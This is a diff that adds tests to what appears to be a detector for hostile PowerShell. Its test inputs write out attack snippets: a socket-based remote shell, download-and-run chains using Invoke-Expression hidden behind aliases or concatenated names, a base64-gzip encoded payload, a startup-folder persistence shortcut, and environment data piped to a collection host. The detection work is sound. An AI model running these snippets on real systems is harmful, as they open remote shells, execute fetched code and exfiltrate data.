@@ -236,3 +236,77 @@ def test_the_environment_piped_into_a_web_request_is_its_body(tmp_path: Path) ->
         "$report | Out-String | Invoke-WebRequest -Uri https://collect.example.invalid/r -Method Put\n",
     )
     assert [line for line, _ in chain(found, Kind.EGRESS)] == [1, 2]
+
+
+def test_invoke_expression_looked_up_by_alias_and_run_on_what_a_socket_sends(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$c = New-Object Net.Sockets.TCPClient('203.0.113.9', 443); $s = $c.GetStream()\n"
+        "$run = Get-Alias ('i' + 'ex')\n"
+        "$n = $s.Read($b, 0, 1024); $cmd = [Text.Encoding]::UTF8.GetString($b, 0, $n)\n"
+        "& $run $cmd\n",
+    )
+    assert (Kind.RAW_SOCKET, "203.0.113.9 (remote shell)") in summary(found)
+
+
+def test_a_cmdlet_looked_up_through_the_execution_context_with_its_name_concatenated(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$f = $ExecutionContext.InvokeCommand.GetCmdlet('Invoke-' + 'Expression')\n"
+        "$code = (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a')\n"
+        "& $f $code\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [2, 3]
+
+
+def test_a_download_elided_to_an_ellipsis_runs_nothing(tmp_path: Path) -> None:
+    assert Kind.EXEC_FETCHED not in {c.kind for c in analyse(tmp_path, "iwr ... | iex\n")}
+
+
+def test_a_bare_argument_joining_a_variable_and_a_path_names_the_file(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "Invoke-WebRequest http://198.51.100.8/h.exe -OutFile $env:TEMP\\h.exe\nStart-Process $env:TEMP\\h.exe\n",
+    )
+    assert chain(found, Kind.EXEC_FETCHED) == [
+        (1, "downloads http://198.51.100.8/h.exe"),
+        (2, "runs h.exe, which it downloaded"),
+    ]
+
+
+def test_arguments_handed_to_the_scripts_own_functions_are_followed_in(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "function Get-Payload([string]$u) { return (New-Object Net.WebClient).DownloadString($u) }\n"
+        "function Invoke-Run {\n  param($Code)\n  Invoke-Expression $Code\n}\n"
+        "$p = Get-Payload 'https://x.example.invalid/a.ps1'\n"
+        "Invoke-Run -Code $p\n",
+    )
+    assert chain(found, Kind.EXEC_FETCHED) == [
+        (1, "downloads https://x.example.invalid/a.ps1"),
+        (4, "runs what it downloaded (Invoke-Expression)"),
+    ]
+
+
+def test_a_stream_wrapped_around_decoded_bytes_yields_decoded_code(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$d = [Convert]::FromBase64String('H4sIAAAAAAAAAwvJzFYoSc3LLEhVSEnNSy0uSQQAbC0YWxIAAAA=')\n"
+        "$s = New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(,$d)), "
+        "[IO.Compression.CompressionMode]::Decompress)\n"
+        "iex (New-Object IO.StreamReader($s)).ReadToEnd()\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EXEC_DECODED)] == [1, 3]
+
+
+def test_a_shortcut_saved_in_the_startup_folder_that_starts_a_download(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$s = (New-Object -ComObject WScript.Shell).CreateShortcut("
+        '"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk")\n'
+        "$s.TargetPath = 'powershell.exe'\n"
+        "$s.Arguments = '-w hidden -c \"iwr https://z.example.invalid/a.ps1|iex\"'\n"
+        "$s.Save()\n",
+    )
+    persisted = [(c.chain[-1].line, c.detail.endswith("(runs code)")) for c in found if c.kind is Kind.PERSISTENCE]
+    assert persisted == [(1, False), (3, True)]
